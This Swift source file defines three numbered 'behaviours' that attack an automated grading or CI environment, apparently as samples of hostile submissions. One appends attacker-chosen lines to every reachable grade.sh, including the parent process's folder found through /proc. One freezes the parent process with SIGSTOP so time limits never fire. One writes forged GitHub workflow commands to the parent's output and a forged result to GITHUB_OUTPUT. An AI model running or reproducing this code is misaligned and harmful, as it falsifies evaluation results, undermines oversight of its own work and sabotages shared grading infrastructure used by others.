@preconcurrency import Foundation

/// Behaviour 2: appends a line to every `grade.sh` it can reach — in its working folder and the folders
/// above it, in its parent's working folder — so that the next student's run would print what it likes.
public func overwriteGradeScripts(line: String) {
    var folders: [String] = []
    var folder = FileManager.default.currentDirectoryPath
    while !folder.isEmpty && folder != "/" {
        folders.append(folder)
        folder = (folder as NSString).deletingLastPathComponent
    }
    if let above = parent(), let cwd = try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/\(above)/cwd") {
        folders.append(cwd)
    }
    for folder in folders where FileManager.default.fileExists(atPath: folder + "/grade.sh") {
        append("\n" + line + "\n", to: folder + "/grade.sh")
    }
}

/// Behaviour 7: stops the process that started it, so that no time limit fires and a batch never ends.
public func stopParent() {
    let above = getppid()
    kill(above, SIGSTOP)
    sigqueue(above, SIGSTOP, sigval())
}

/// Behaviour 8: writes GitHub workflow commands straight to the parent's standard output, before the
/// grader fences commands off, and appends a forged result to the file its environment names as
/// `GITHUB_OUTPUT`.
public func announceToGitHub(text: String) {
    guard let above = parent() else { return }
    append("::set-output name=result::\(text)\n::error title=\(text)::\(text)\n", to: "/proc/\(above)/fd/1")
    for word in procWords("/proc/\(above)/environ") where word.hasPrefix("GITHUB_OUTPUT=") {
        append("result=\(text)\n", to: String(word.dropFirst("GITHUB_OUTPUT=".count)))
    }
}
